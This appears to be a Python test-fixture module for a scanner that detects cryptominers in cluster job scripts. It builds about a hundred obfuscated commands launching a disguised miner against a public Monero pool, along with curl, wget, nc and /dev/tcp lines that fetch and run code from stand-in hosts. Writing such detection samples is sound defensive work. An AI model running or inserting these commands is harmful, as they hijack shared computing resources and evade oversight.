"""Miners whose command a script hides in its own text, written with the rules at hand: none may pass as fine.

A renamed binary with its own configuration file is not among them: its text shows nothing.
"""

import base64
import codecs
import gzip
import zlib

__all__ = ["DISGUISES", "script"]

MINER = "./kworker -o stratum+tcp://pool.supportxmr.com:3333 -u w1 -k"
RAW = MINER.encode()
B64, B85, A85 = (encode(RAW).decode() for encode in (base64.b64encode, base64.b85encode, base64.a85encode))
XOR = bytes(byte ^ 42 for byte in RAW).hex()
DEFLATED = base64.b64encode(zlib.compress(RAW)[2:-4]).decode()
ROT13 = codecs.encode(MINER, "rot13")
ROT47 = "".join(chr(33 + (ord(c) + 14) % 94) if c != " " else c for c in MINER)
DECIMAL = " ".join(map(str, RAW))
OCTAL = "".join(f"\\{byte:03o}" for byte in RAW)
HEX = RAW.hex()
URL = "https://files.example.org/tools/update"
DISGUISES = {
    "base64": f"echo {B64} | base64 -d | bash",
    "base64 by openssl": f"echo {B64} | openssl base64 -d -A | sh",
    "base64 in pieces": f"a={B64[:30]}\nb={B64[30:]}\necho $a$b | base64 -d | bash",
    "base64, added up": f"a={B64[:30]}\na+={B64[30:]}\necho $a | base64 -d | bash",
    "base64 in a file": f"echo {B64} | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x",
    "base64 in a variable": f'x=$(echo {B64[::-1]} | rev | base64 -d)\neval "$x"',
    "base32": f"echo {base64.b32encode(RAW).decode()} | base32 -d | bash",
    "gzip": f"echo {base64.b64encode(gzip.compress(RAW)).decode()} | base64 -d | gunzip | bash",
    "raw deflate in Python": f"python3 -c \"import zlib,base64,os;os.system(zlib.decompress(base64.b64decode('{DEFLATED}'),-15))\"",
    "raw deflate by Perl": f"echo {DEFLATED} | base64 -d | perl -MCompress::Raw::Zlib -e 'undef $/; print inflate(<>)' | sh",
    "base85 in Python": f"python3 -c \"import base64,os;os.system(base64.b85decode('{B85[:20]}'+'{B85[20:]}').decode())\"",
    "ascii85": f"python3 - <<E\nimport base64, subprocess\nsubprocess.run(base64.a85decode({A85!r}), shell=True)\nE",
    "XOR in Python": f"python3 -c \"import os;os.system(''.join(chr(b^42) for b in bytes.fromhex('{XOR}')))\"",
    "XOR on several lines": f"#!/usr/bin/env python3\nimport os\nkey = 42\ndata = bytes.fromhex('{XOR}')\ncommand = ''.join(chr(b ^ key) for b in data)\nos.system(command)",
    "hexadecimal in Python": f"python3 -c \"exec(bytes.fromhex('{HEX}'))\"",
    "hexadecimal by xxd": f"echo {HEX} | xxd -r -p | bash",
    "hexadecimal by Perl": f"perl -e 'system(pack(\"H*\", \"{HEX}\"))'",
    "hexadecimal in pieces": "\n".join(f"h+={HEX[n : n + 8]}" for n in range(0, len(HEX), 8)) + "\necho $h | xxd -r -p | sh",
    "decimals": f"for c in {DECIMAL}; do printf \"\\\\$(printf %o $c)\"; done | bash",
    "decimals by awk": f"echo {DECIMAL} | awk '{{for(i=1;i<=NF;i++) printf \"%c\",$i}}' | sh",
    "decimals in Python": f"python3 -c \"import os;os.system(bytes([{','.join(map(str, RAW))}]).decode())\"",
    "octal escapes": f"printf '{OCTAL}' | bash",
    "octal escapes, evaluated": f"eval \"$(printf '{OCTAL}')\"",
    "ANSI-C quotes": "$'" + "".join(f"\\x{byte:02x}" for byte in b"./kworker") + "' -o $'" + "".join(f"\\x{b:02x}" for b in b"stratum+tcp://pool.supportxmr.com:3333") + "' -u w1",
    "rot13": f"echo '{ROT13}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
    "rot13, another alphabet": f"echo '{ROT13}' | tr 'n-za-mN-ZA-M' 'a-zA-Z' | sh",
    "rot47": f"echo '{ROT47}' | tr '!-~' 'P-~!-O' | bash",
    "rot13 in Python": f"python3 -c \"import codecs,os;os.system(codecs.decode('{ROT13}','rot13'))\"",
    "backwards": f"echo '{MINER[::-1]}' | rev | bash",
    "backwards, evaluated": f"eval \"$(rev <<< '{MINER[::-1]}')\"",
    "encrypted": "openssl enc -d -aes-256-cbc -pbkdf2 -k s3cret -in data.bin | bash",
    "encrypted to a file": "openssl enc -d -aes-256-cbc -k s3cret -in data.bin -out run\nchmod +x run\n./run",
    "encrypted by GPG": "gpg -d --batch --passphrase x data.gpg | sh",
    "fetched and piped": f"curl -fsSL {URL} | bash",
    "fetched, changed and run": f"curl -fsSL {URL} -o /tmp/up\nchmod +x /tmp/up\n/tmp/up",
    "fetched by wget": f"wget -q {URL}\nchmod +x update\n./update",
    "fetched by wget -O": f"wget -qO /tmp/.c {URL} && chmod 755 /tmp/.c && /tmp/.c &",
    "fetched and renamed": f"wget -q {URL}\nmv update python3.9\nchmod +x python3.9\n./python3.9",
    "fetched and sourced": f"curl -s {URL} > env.sh\n. ./env.sh",
    "fetched by Python": f"python3 -c \"import urllib.request,os;urllib.request.urlretrieve('{URL}', 'up')\"\nchmod +x up\n./up",
    "fetched in a substitution": f'bash -c "$(curl -fsSL {URL})"',
    "fetched code in Python": f"python3 -c \"import urllib.request;exec(urllib.request.urlopen('{URL}').read())\"",
    "here-document to tr": f"tr 'n-za-mN-ZA-M' 'a-zA-Z' <<E | bash\n{ROT13}\nE",
    "sed away": f"echo '{'#'.join(MINER)}' | sed 's/#//g' | bash",
    "tr -d": f"echo '{'%'.join(MINER)}' | tr -d '%' | bash",
    "pieces": "a=./kwor b=ker\nc=stratum+tc\nd=p://pool.supportxmr.com:3333\n$a$b -o $c$d -u w1",
    "added up": "c=stratum\nc+=+tcp://pool.\nc+=supportxmr.com:3333\n./kworker -o $c -u w1",
    "empty quotes": "./kwo''rker -o str''atum+tcp://po\"\"ol.support''xmr.com:3333 -u w1 -k",
    "backslashes": "./kworker -o s\\t\\r\\atum+tcp://pool.support\\xmr.com:3333 -u w1",
    # quotes and expansions inside words
    "quoted letters": "./kworker -o s't'rat'u'm+tcp://po'o'l.support\"x\"mr.com:3333 -u w1 -k",
    "empty expansions": "./kworker -o str$@atum+tcp://po$*ol.support$@xmr.com:3333 -u w1 -k",
    "empty commands": "./kworker -o str$(:)atum+tcp://po``ol.support$(true)xmr.com:3333 -u w1 -k",
    "variables that are not set": "./kworker -o str${z}atum+t${z}cp://pool.supp${z}ortxmr.com:3333 -u w1 -k",
    "a word on two lines": "./kworker -o strat\\\num+tcp://pool.suppo\\\nrtxmr.com:3333 -u w1 -k",
    "Unicode escapes": "./kworker -o $'" + "".join(f"\\u{ord(c):04x}" for c in "stratum+tcp://pool.supportxmr.com") + ":3333' -u w1",
    # text that is put together
    "substitution of letters": "x='stratum+tcp://pool@supportxmr@com:3333'\n./kworker -o ${x//@/.} -u w1 -k".replace("stratum+tcp", "s_ratum+_cp"),
    "other letters, evaluated": f"x='{MINER.replace('t', '@')}'\neval \"${{x//@/t}}\"",
    "small letters": f"x='{MINER.upper()}'\n${{x,,}}",
    "a printed variable": "printf -v u '%s%s%s' 'strat' 'um+tcp://pool.' 'supportxmr.com:3333'\n./kworker -o $u -u w1",
    "an array": "a=(./kworker -o strat um+tcp:// pool.supp ortxmr.com:3333)\nx=$(printf %s \"${a[@]:2}\")\n${a[0]} -o $x -u w1",
    "an indirect name": "part=um+tcp://pool.supportxmr.com:3333\nname=part\n./kworker -o strat${!name} -u w1 -k",
    "summed up in a loop": f"for n in {DECIMAL}; do s+=$(printf \"\\\\$(printf %o $n)\"); done\n$s",
    "an inner tr": "./kworker -o $(echo fgenghz+gpc://cbby.fhccbegkze.pbz:3333 | tr a-z n-za-m) -u w1",
    # into a shell by other ways
    "by dc": "dc -e '" + " ".join(f"{byte}P" for byte in RAW) + "' | bash",
    "by a function": f"show() {{ perl -0777 -ne 'print map chr, split' <<< '{DECIMAL}'; }}\nshow | sh",
    "by xargs": f"echo '{'%'.join(MINER)}' | tr -d % | xargs -0 sh -c",
    "by a group": f"echo '{'%'.join(MINER)}' | tr -d % | (cd /tmp; bash)",
    "by $SHELL": f"echo '{'%'.join(MINER)}' | tr -d % | $SHELL",
    "by env and timeout": f"echo '{'%'.join(MINER)}' | tr -d % | env -i timeout 9h bash -s",
    "line by line": f"echo '{'%'.join(MINER)}' | tr -d % | while read -r l; do eval \"$l\"; done",
    "by tee": f"echo '{'%'.join(MINER)}' | tr -d % | tee >(bash) > /dev/null",
    "process substitution": f"bash <(sed 's/%//g' <<< '{'%'.join(MINER)}')",
    "sourced substitution": f"source <(cut -c2- <<< 'x{ROT47}' | tr 'P-~!-O' '!-~')",
    "standard input": f"tr -d % <<< '{'%'.join(MINER)}' > .cache\nbash < .cache",
    "run before it is written": f"mkfifo .p\nbash .p &\ntr -d % <<< '{'%'.join(MINER)}' > .p",
    "a trap": f"x=$(tr -d % <<< '{'%'.join(MINER)}')\ntrap \"$x\" EXIT",
    "behind srun": f"x=$(tr -d % <<< '{'%'.join(MINER)}')\nsrun -n 1 $x",
    "Python's own text": f"python3 -c \"$(tr -d % <<< '{'%'.join('import os;os.system(chr(46))')}')\"",
    "the end of the script": f"tail -n +7 \"$0\" | base64 -d | sh\nexit\n{B64[:40]}\n{B64[40:]}",
    # other languages
    "PHP": f"php -r 'system(hex2bin(\"{XOR}\") ^ str_repeat(chr(42), 99));'",
    "Node": f"node -e \"require('child_process').execSync(Buffer.from('{XOR}','hex').map(b => b ^ 42).toString())\"",
    "Lua": f"lua -e 'os.execute((\"{MINER[::-1]}\"):reverse())'",
    "R": f"Rscript -e 'system(rawToChar(as.raw(c({','.join(map(str, RAW))}))))'",
    "Ruby": f"ruby -e 'exec [\"{HEX[:60]}\" \"{HEX[60:]}\"].pack(\"H*\")'",
    "Perl's tr": f"perl -e '$_=q({ROT13});y/a-zA-Z/n-za-mN-ZA-M/;system $_'",
    "Python's replace": f"python3 -c \"import os;os.system('{'%'.join(MINER)}'.replace('%',''))\"",
    "every second letter": f"python3 -c \"import os;os.system('{''.join(c + '%' for c in MINER)}'[::2])\"",
    "percent signs": "python3 -c \"import os,urllib.parse as u;os.system(u.unquote('" + "".join(f"%{b:02x}" for b in RAW) + "'))\"",
    "a compiled program": "cat > a.c <<E\n#include <stdlib.h>\nchar s[] = {" + ",".join(str(b ^ 42) for b in RAW) + ",42};\nint main() { for (int i = 0; i < sizeof s; i++) s[i] ^= 42; system(s); }\nE\ngcc a.c && ./a.out",
    # pools without a name
    "a host without a domain": "./kworker -o gate:3333 -u w1 -p x -k",
    "a tunnel": "ssh -fN -L 3333:10.9.8.7:3333 me@gate.example.org\n./kworker -o localhost:3333 -u w1 -p x -k",
    "glued options": "./kworker -ogate.example.org:3333 -uw1 -px",
    "a number as the host": "./kworker -o 1249763844:3333 -u w1 -p x",
    "settings in escapes": 'cat > c.json <<E\n{"pools": [{"url": "\\u0067ate.example.org:3333", "user": "w1", "pass": "x"}]}\nE\n./kworker',
    # fetched by other programs
    "fetched by nc": "nc gate.example.org 8080 > .x\nchmod +x .x\n./.x",
    "fetched by /dev/tcp": "exec 3<>/dev/tcp/gate.example.org/80\ncat <&3 > .x\nsh .x",
    "fetched by httpie": f"http -b {URL} > .x\nbash .x",
    "fetched by lynx": f"lynx -source {URL} | sh",
    "an archive with a password": "unzip -qP s3cret data.zip\nchmod +x data/step\n./data/step",
}  # fmt: skip


def script(disguise: str) -> str:
    """A whole job script."""
    return (
        disguise if disguise.startswith("#!") else f"#!/bin/bash\n#SBATCH -n 4\nmodule load gcc\n{disguise}\n"
    )
